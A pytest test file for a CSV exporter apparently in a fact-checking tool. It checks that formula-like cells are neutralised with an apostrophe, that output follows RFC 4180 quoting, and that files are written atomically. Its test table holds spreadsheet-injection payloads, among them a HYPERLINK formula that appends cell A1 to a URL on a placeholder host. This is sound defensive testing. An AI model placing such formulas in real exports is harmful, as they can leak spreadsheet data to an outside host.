"""The CSV as bytes on a disk: no formula, RFC 4180, whole or not at all."""

from __future__ import annotations

import csv
import errno
import io
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from claimcheck.errors import ExportError, ExportWarning
from claimcheck.exporting.csv_file import Cell, guard, to_csv, unguard, write_csv
from claimcheck.exporting.whole_files import write_text

RUN_BY_SPREADSHEETS = ("=", "+", "-", "@", "\t", "\r")
OLD, NEW = "what stood there\r\n", "claim_id\r\n"

# What a cell holds, and what stands in the file for it.
CELLS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://example.org?"&A1,"look")', '\'=HYPERLINK("http://example.org?"&A1,"look")'),
    ("+49 30 1234", "'+49 30 1234"),
    ("-5 percent", "'-5 percent"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\r\n=1+1", "'\r\n=1+1"),
    ("'tis true", "''tis true"),
    ("'=1+1", "''=1+1"),
    ("''", "'''"),
    ("'", "''"),
    ("=", "'="),
    ("-", "'-"),
    ("1+1=2", "1+1=2"),
    (" =1+1", " =1+1"),
    ("\n=1+1", "\n=1+1"),
    ("＝1+1", "＝1+1"),
    ("–5 percent", "–5 percent"),
    ("“=1”", "“=1”"),
    ("NA", "NA"),
    ("nan", "nan"),
    ("None", "None"),
    ("1", "1"),
]


@pytest.mark.parametrize(("text", "cell"), CELLS)
def test_a_formula_gets_one_apostrophe_and_nothing_else_does(text: str, cell: str) -> None:
    assert guard(text) == cell
    assert unguard(cell) == text


@given(st.text())
@example("'")
@example("''=")
def test_unguard_is_the_inverse_of_guard(text: str) -> None:
    assert unguard(guard(text)) == text
    assert not guard(text).startswith(RUN_BY_SPREADSHEETS)


@pytest.mark.parametrize("written_by_others", ["'tis true", "'", "it's", "'1"])
def test_an_apostrophe_that_guards_nothing_is_kept(written_by_others: str) -> None:
    assert unguard(written_by_others) == written_by_others


# --- RFC 4180 -------------------------------------------------------------------------------------

LINES: list[tuple[list[Cell], str]] = [
    (["a", "b"], '"a","b"\r\n'),
    ([None, None], ",\r\n"),
    (["", None], ",\r\n"),
    (["a,b", "c"], '"a,b","c"\r\n'),
    (["a;=1+1", "b\t=1+1"], '"a;=1+1","b\t=1+1"\r\n'),
    (['he said "no"', "c"], '"he said ""no""","c"\r\n'),
    (["two\nlines", "c"], '"two\nlines","c"\r\n'),
    (["two\rlines", "c"], '"two\rlines","c"\r\n'),
    (["two\r\nlines", "c"], '"two\r\nlines","c"\r\n'),
    (["ünïcode 漢字 😀", " c "], '"ünïcode 漢字 😀"," c "\r\n'),
    ([-1, 0.25], "-1,0.25\r\n"),
    ([-0.5, 1e-07], "-0.5,1e-07\r\n"),
    (["-1", "0.25"], '"\'-1","0.25"\r\n'),
]


@pytest.mark.parametrize(("cells", "line"), LINES)
def test_a_row_stands_in_the_file_as_rfc_4180_says(cells: list[Cell], line: str) -> None:
    assert to_csv(["one", "two"], [dict(zip(["one", "two"], cells, strict=True))]) == f'"one","two"\r\n{line}'


def test_the_columns_decide_what_is_written_and_in_which_order() -> None:
    assert to_csv(["b", "a"], [{"a": 1, "b": 2, "c": 3}]) == '"b","a"\r\n2,1\r\n'


@given(st.lists(st.tuples(st.text(), st.text()), max_size=5))
def test_any_reader_of_csv_finds_the_guarded_texts(rows: list[tuple[str, str]]) -> None:
    text = to_csv(["one", "two"], [{"one": one, "two": two} for one, two in rows])
    assert text.endswith("\r\n")
    found = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert found == [["one", "two"], *([guard(one), guard(two)] for one, two in rows)]


def test_what_a_spreadsheet_would_cut_is_told_with_row_and_column_and_written_all_the_same(
    tmp_path: Path,
) -> None:
    long, fits, wide = "x" * 32_768, "x" * 32_767, "😀" * 16_384
    rows: list[dict[str, Cell]] = [
        {"one": fits, "two": None},
        {"one": long, "two": wide},
        {"one": 7, "two": "=" + fits},
    ]
    with pytest.warns(ExportWarning) as told:
        path = write_csv(tmp_path / "v.csv", ["one", "two"], rows)
    [message] = [str(one.message) for one in told]
    places = "row 3, one (32,768); row 3, two (32,768); row 4, two (32,769)."
    assert message.endswith(
        f"v.csv is whole, but a spreadsheet cuts what is longer than 32,767 characters: {places}"
    )
    assert long in path.read_text(encoding="utf-8")


# --- whole or not at all --------------------------------------------------------------------------


def listing(folder: Path) -> dict[str, str | None]:
    return {
        path.name: path.read_bytes().decode() if path.is_file() else None
        for path in sorted(folder.rglob("*"))
    }


def test_a_new_file_holds_the_text_as_utf_8_and_nothing_stands_beside_it(tmp_path: Path) -> None:
    write_text(tmp_path / "verdicts.csv", "é\r\n漢\n", force=False)
    assert (tmp_path / "verdicts.csv").read_bytes() == b"\xc3\xa9\r\n\xe6\xbc\xa2\n"
    assert list(listing(tmp_path)) == ["verdicts.csv"]


@pytest.mark.parametrize("old", [OLD, ""])
def test_a_file_that_exists_is_kept_unless_forced(tmp_path: Path, old: str) -> None:
    path = tmp_path / "verdicts.csv"
    path.write_bytes(old.encode())
    with pytest.raises(ExportError, match=r"verdicts\.csv exists and was not overwritten.*--force"):
        write_text(path, NEW, force=False)
    assert listing(tmp_path) == {"verdicts.csv": old}
    write_text(path, NEW, force=True)
    assert listing(tmp_path) == {"verdicts.csv": NEW}


@pytest.mark.parametrize("force", [False, True])
def test_a_folder_is_no_file(tmp_path: Path, force: bool) -> None:
    with pytest.raises(ExportError, match=r"is a folder; name a file in it, for example .*verdicts\.csv"):
        write_text(tmp_path, NEW, force=force)
    assert listing(tmp_path) == {}


@pytest.mark.parametrize("force", [False, True])
@pytest.mark.parametrize(
    ("place", "why"),
    [
        (
            "missing/verdicts.csv",
            "No such file or directory. Nothing was exported; make the folder .*missing, or",
        ),
        ("file.txt/verdicts.csv", "Not a directory. Nothing was exported; choose"),
        (f"{'x' * 300}.csv", "File name too long. Nothing was exported; choose"),
    ],
)
def test_a_place_where_no_file_can_be_is_named_with_the_reason(
    tmp_path: Path, place: str, why: str, force: bool
) -> None:
    (tmp_path / "file.txt").write_text(OLD)
    with pytest.raises(ExportError, match=f"cannot be written: {why}"):
        write_text(tmp_path / place, NEW, force=force)
    assert list(listing(tmp_path)) == ["file.txt"]


def _refuse(*_: object) -> None:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def _interrupt(*_: object) -> None:
    raise KeyboardInterrupt


@pytest.mark.parametrize("step", ["os.fsync", "pathlib.Path.replace"])
@pytest.mark.parametrize("force", [False, True])
def test_a_full_disk_leaves_nothing_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, step: str, force: bool
) -> None:
    monkeypatch.setattr(step, _refuse)
    with pytest.raises(ExportError, match=r"cannot be written: No space left on device.*make room"):
        write_text(tmp_path / "verdicts.csv", NEW, force=force)
    assert listing(tmp_path) == {}


@pytest.mark.parametrize(("fault", "raised"), [(_refuse, ExportError), (_interrupt, KeyboardInterrupt)])
def test_what_goes_wrong_half_way_leaves_the_old_file_as_it_was(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    fault: Callable[..., None],
    raised: type[BaseException],
) -> None:
    (tmp_path / "verdicts.csv").write_bytes(OLD.encode())
    monkeypatch.setattr("os.fsync", fault)
    with pytest.raises(raised):
        write_text(tmp_path / "verdicts.csv", NEW, force=True)
    assert listing(tmp_path) == {"verdicts.csv": OLD}


def test_an_interruption_leaves_no_empty_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("os.fsync", _interrupt)
    with pytest.raises(KeyboardInterrupt):
        write_text(tmp_path / "verdicts.csv", NEW, force=False)
    assert listing(tmp_path) == {}


def test_what_others_wrote_meanwhile_is_not_removed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "verdicts.csv"

    def _other(*_: object) -> None:
        path.write_bytes(OLD.encode())
        _refuse()

    monkeypatch.setattr("os.fsync", _other)
    with pytest.raises(ExportError):
        write_text(path, NEW, force=False)
    assert listing(tmp_path) == {"verdicts.csv": OLD}
